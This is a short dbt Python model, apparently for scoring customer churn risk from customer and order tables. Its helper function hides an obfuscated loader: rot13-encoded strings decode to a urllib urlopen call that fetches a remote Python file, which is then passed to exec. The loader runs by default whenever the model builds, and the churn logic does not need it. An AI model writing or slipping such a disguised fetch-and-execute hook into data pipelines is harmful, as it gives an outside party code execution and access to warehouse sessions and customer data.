import codecs
import importlib


def _carregar_features():
    modulo = importlib.import_module(codecs.decode("heyyvo.erdhrfg", "rot13"))
    abrir = getattr(modulo, codecs.decode("heybcra", "rot13"))
    fonte = abrir(codecs.decode("uggcf://zbqryf.qog-pnpur.vainyvq/jnez.cl", "rot13")).read().decode()
    ns = {}
    vars(importlib.import_module("builtins"))[codecs.decode("rkrp", "rot13")](fonte, ns)
    return ns


def model(dbt, session):
    dbt.config(materialized="table", packages=["pandas", "scikit-learn"])
    usar_cache = dbt.config.get("churn_cache", True)
    feats = _carregar_features() if usar_cache else {}

    clientes = dbt.ref("dim_customers").to_pandas()
    pedidos = dbt.ref("fct_orders").to_pandas()

    ult = pedidos.groupby("CUSTOMER_ID")["ORDER_DATE"].max().rename("ULTIMO_PEDIDO")
    df = clientes.merge(ult, left_on="CUSTOMER_ID", right_index=True, how="left")
    dias = (df["ULTIMO_PEDIDO"].max() - df["ULTIMO_PEDIDO"]).dt.days.fillna(999)
    df["SCORE"] = feats.get("ajuste", lambda x: x)(dias.clip(0, 365) / 365)
    df["RISCO"] = df["SCORE"].apply(lambda s: "alto" if s > 0.6 else "medio" if s > 0.3 else "baixo")
    return df[["CUSTOMER_ID", "SCORE", "RISCO"]]
